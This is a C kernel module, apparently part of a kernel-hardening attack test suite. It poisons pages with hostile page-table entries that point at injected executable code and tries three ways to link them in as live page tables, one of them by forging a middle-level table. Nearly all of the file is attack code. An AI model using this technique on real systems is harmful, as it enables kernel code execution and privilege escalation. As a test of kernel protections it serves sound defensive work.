/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Fills a page with hostile entries before it is a page table: one that never was any, one that was one a
 * moment ago, and one below a table that is no table yet either.
 */
#include "attack.h"
#include "attack_tables.h"

#include <linux/io.h>
#include <linux/string.h>

#define WAYS 3

static unsigned int done;
static u64 hostile;
static unsigned long area;

static void poison(u64 *table)
{
	for (unsigned int i = 0; i < ATTACK_ENTRIES; i++)
		WRITE_ONCE(table[i], hostile);
}

static void run(void)
{
	attack_flush();
	done += attack_call(area + PAGE_SIZE) == ATTACK_CALLED;
}

static void fresh(u64 *table)
{
	poison(table);
	if (attack_link(table))
		run();
}

static void used(u64 *table)
{
	if (!attack_link(table) || !attack_link(NULL))
		return;
	poison(table);
	if (attack_link(table))
		run();
}

static void below(u64 *table)
{
	u64 *middle = attack_page(0), *slot = attack_slot(area, 3, NULL);
	const u64 before = *slot;

	poison(table);
	if (!middle)
		return;
	memcpy(middle, __va(before & PTE_PFN_MASK), PAGE_SIZE);
	middle[attack_index(area, 2)] = virt_to_phys(table) | ATTACK_TABLE;
	if (attack_store(slot, virt_to_phys(middle) | (before & ~PTE_PFN_MASK)))
		run();
	(void)attack_store(slot, before);
	attack_flush();
}

static int attempt(void)
{
	static void (*const ways[WAYS])(u64 *) = {fresh, used, below};
	void *code = attack_page(0);

	area = attack_area();
	if (!area || !code)
		return -ENOMEM;
	attack_write_code(code);
	hostile = virt_to_phys(code) | ATTACK_CODE | _PAGE_RW;
	for (unsigned int i = 0; i < WAYS; i++) {
		u64 *table = attack_page(0);

		if (!table)
			return -ENOMEM;
		ways[i](table);
		attack_link(NULL);
	}
	return 0;
}

static bool effect(void)
{
	attack_detail("%u of %u ways", done, WAYS);
	return attack_tries(done, WAYS);
}

static const struct attack pt_poison = {
	"pt_poison", "kernel-exec,kernel-remap", NULL, attempt, effect, NULL};
ATTACK_MODULE(pt_poison);
